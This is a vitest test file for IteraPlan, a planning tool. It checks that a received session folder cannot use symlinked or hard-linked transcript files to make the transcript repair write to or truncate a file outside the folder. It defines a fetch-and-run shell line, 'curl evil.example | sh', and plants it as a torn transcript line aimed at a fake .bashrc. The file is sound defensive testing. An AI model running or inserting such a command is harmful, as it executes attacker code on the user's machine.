/**
 * A session folder someone sends you cannot make IteraPlan write outside it. The hostile test's
 * two attacks on the torn-tail repair of transcript.jsonl: a `transcript.jsonl.torn` linked to a
 * file of the victim's choosing (the repair appended the torn bytes, a shell line, to it), and a
 * `transcript.jsonl` linked to a file whose last line has no newline (the repair cut that line
 * off the target). Reading commands (`export`, `--replay`) write nothing; `--resume`, which must
 * repair, refuses links and writes only files it creates in the folder.
 */
import { linkSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { replayOrigin } from '../../src/session/index.js';
import { Session } from '../../src/session/session.js';
import { replayedTranscriber } from '../../src/voice/index.js';
import { bridgeEnv } from '../helpers/bridge.js';
import { makeScratch, type Scratch } from '../helpers/files.js';
import { makeScenesDir } from '../helpers/scenes.js';
import { runCli } from '../faults/cli-run.js';
import { plannedSession, writeSession } from '../export/sessions.js';

const SHELL_LINE = 'curl evil.example | sh';
const VICTIM_TEXT = 'export PATH=$HOME/bin:$PATH\nalias ll="ls -l"';

let scenes: ReturnType<typeof makeScenesDir>;
let scratch: Scratch;
let env: NodeJS.ProcessEnv;
let serial = 0;
/** A real finished session whose goal and states the sent ones borrow, so that export takes them as successes. */
let world: string;
beforeAll(async () => {
  scenes = makeScenesDir();
  scratch = makeScratch('iteraplan-folder-writes-');
  env = bridgeEnv({ ITERAPLAN_SCENES: scenes.dir, ITERAPLAN_PYTHON: '/nonexistent/python' });
  world = await plannedSession(scenes.dir);
});
afterAll(() => {
  scenes?.remove();
  scratch?.remove();
});

/** A finished session in a runs folder of its own, and a victim file outside it. */
function sentSession(): { runs: string; dir: string; victim: string } {
  serial += 1;
  const runs = join(scratch.dir, `runs-${serial}`);
  mkdirSync(runs);
  const dir = writeSession(runs, { instruction: 'Fry an egg', at: new Date(Date.UTC(2026, 0, 1)), world }).dir;
  const victim = join(scratch.dir, `victim-${serial}.bashrc`);
  writeFileSync(victim, VICTIM_TEXT);
  return { runs, dir, victim };
}

/** The torn-`.torn` attack: a torn last line (a shell line) and `.torn` linked to the victim. */
function tornLinkAttack(): { runs: string; dir: string; victim: string } {
  const sent = sentSession();
  writeFileSync(join(sent.dir, 'transcript.jsonl'), `${readFileSync(join(sent.dir, 'transcript.jsonl'), 'utf8')}\n${SHELL_LINE}`);
  symlinkSync(sent.victim, join(sent.dir, 'transcript.jsonl.torn'));
  return sent;
}

/** The linked-transcript attack: transcript.jsonl is a link to the victim, whose last line has no newline. */
function linkedTranscriptAttack(): { runs: string; dir: string; victim: string } {
  const sent = sentSession();
  const transcript = join(sent.dir, 'transcript.jsonl');
  writeFileSync(sent.victim, `${readFileSync(transcript, 'utf8')}${VICTIM_TEXT}`);
  unlinkSync(transcript);
  symlinkSync(sent.victim, transcript);
  return sent;
}

describe('a symlinked transcript.jsonl.torn does not append to the file it points at', () => {
  test('plan --resume refuses the folder, naming the link, and writes nothing', async () => {
    const { dir, victim } = tornLinkAttack();
    const transcriptBefore = readFileSync(join(dir, 'transcript.jsonl'), 'utf8');
    const { code, stderr } = await runCli(['plan', '--resume', dir, '--planner', 'offline', '--yes'], env);
    expect(code).toBe(2);
    expect(stderr).toContain(`${join(dir, 'transcript.jsonl.torn')} is a symbolic link`);
    expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
    expect(readFileSync(join(dir, 'transcript.jsonl'), 'utf8')).toBe(transcriptBefore);
  });

  test('export reads the session (the torn line ignored) and writes nothing to it or through it', async () => {
    const { runs, dir, victim } = tornLinkAttack();
    const transcriptBefore = readFileSync(join(dir, 'transcript.jsonl'), 'utf8');
    const { code, stdout } = await runCli(['export', runs, '--format', 'jsonl'], env);
    expect(code).toBe(0);
    expect(JSON.parse(stdout.trim())).toMatchObject({ instruction: 'Fry an egg' });
    expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
    expect(readFileSync(join(dir, 'transcript.jsonl'), 'utf8')).toBe(transcriptBefore);
  });
});

describe('a symlinked transcript.jsonl does not have its target cut', () => {
  test('plan --resume refuses it, naming the link; the target keeps its last line', async () => {
    const { dir, victim } = linkedTranscriptAttack();
    const before = readFileSync(victim, 'utf8');
    const { code, stderr } = await runCli(['plan', '--resume', dir, '--planner', 'offline', '--yes'], env);
    expect(code).toBe(2);
    expect(stderr).toContain(`${join(dir, 'transcript.jsonl')} is a symbolic link`);
    expect(readFileSync(victim, 'utf8')).toBe(before);
    expect(readdirSync(scratch.dir).filter((name) => name.includes('.torn'))).toEqual([]);
  });

  test('export reports the session as broken, naming the link, and leaves the target alone', async () => {
    const { runs, dir, victim } = linkedTranscriptAttack();
    const before = readFileSync(victim, 'utf8');
    const { code, stderr } = await runCli(['export', runs], env);
    expect(code).toBe(0);
    expect(stderr).toContain(`${join(dir, 'transcript.jsonl')} is a symbolic link`);
    expect(stderr).toContain('1 broken');
    expect(readFileSync(victim, 'utf8')).toBe(before);
  });
});

describe('--replay (recorded calls, a spoken request) reads the folder and writes nothing', () => {
  test('a torn transcript with a linked .torn: the calls replay, the victim and the transcript are untouched', async () => {
    const { dir, victim } = tornLinkAttack();
    const transcriptBefore = readFileSync(join(dir, 'transcript.jsonl'), 'utf8');
    const source = await replayOrigin(dir).open();
    expect(source.description).toBe(`transcript ${join(dir, 'transcript.jsonl')}`);
    await expect(replayedTranscriber(dir)({ path: 'request.wav', bytes: Buffer.from('RIFF') } as never)).rejects.toThrow(/holds no spoken request/);
    expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
    expect(readFileSync(join(dir, 'transcript.jsonl'), 'utf8')).toBe(transcriptBefore);
  });

  test('a linked transcript is refused, naming the link; its target keeps its last line', async () => {
    const { dir, victim } = linkedTranscriptAttack();
    const before = readFileSync(victim, 'utf8');
    await expect(replayOrigin(dir).open()).rejects.toThrow(`${join(dir, 'transcript.jsonl')} is a symbolic link`);
    await expect(replayedTranscriber(dir)({ path: 'request.wav', bytes: Buffer.from('RIFF') } as never)).rejects.toThrow('is a symbolic link');
    expect(readFileSync(victim, 'utf8')).toBe(before);
  });
});

describe('a repair writes only files it creates, in the folder', () => {
  test('a transcript hard-linked to another file: the repair replaces the transcript, the other file is untouched', () => {
    const { dir, victim } = sentSession();
    const transcript = join(dir, 'transcript.jsonl');
    const whole = readFileSync(transcript, 'utf8');
    writeFileSync(transcript, `${whole}{"type":"dec`);
    unlinkSync(victim);
    linkSync(transcript, victim);
    const session = Session.open(dir);
    expect(session.events.at(-1)?.type).toBe('end');
    expect(readFileSync(victim, 'utf8')).toBe(`${whole}{"type":"dec`);
    expect(readFileSync(transcript, 'utf8')).toBe(whole);
    expect(statSync(transcript).nlink).toBe(1);
    expect(readFileSync(`${transcript}.torn`, 'utf8')).toBe('{"type":"dec\n');
  });

  test('a whole transcript hard-linked to another file is not appended to on resume', () => {
    const { dir, victim } = sentSession();
    const transcript = join(dir, 'transcript.jsonl');
    unlinkSync(victim);
    linkSync(transcript, victim);
    const before = readFileSync(victim, 'utf8');
    const session = Session.open(dir);
    expect(() => session.record({ type: 'clarify', question: 'q', answer: 'a' })).toThrow(/other hard links/);
    expect(readFileSync(victim, 'utf8')).toBe(before);
  });

  test('a code file linked elsewhere is replaced by the new version, not written through', () => {
    const { dir, victim } = sentSession();
    const code = join(dir, 'code-v2.py');
    symlinkSync(victim, code);
    Session.open(dir).writeFile('code-v2.py', "OpenObject('Fridge')\n");
    expect(readFileSync(victim, 'utf8')).toBe(VICTIM_TEXT);
    expect(readFileSync(code, 'utf8')).toBe("OpenObject('Fridge')\n");
  });

  test('a bad line anywhere stops the repair before it writes anything', () => {
    const { dir } = sentSession();
    const transcript = join(dir, 'transcript.jsonl');
    const damaged = `not json\n${readFileSync(transcript, 'utf8')}{"type":"dec`;
    writeFileSync(transcript, damaged);
    expect(() => Session.open(dir)).toThrow(/transcript\.jsonl:1: not valid JSON/);
    expect(readFileSync(transcript, 'utf8')).toBe(damaged);
    expect(readdirSync(dir).filter((name) => name.includes('.torn') || name.endsWith('.tmp'))).toEqual([]);
  });
});
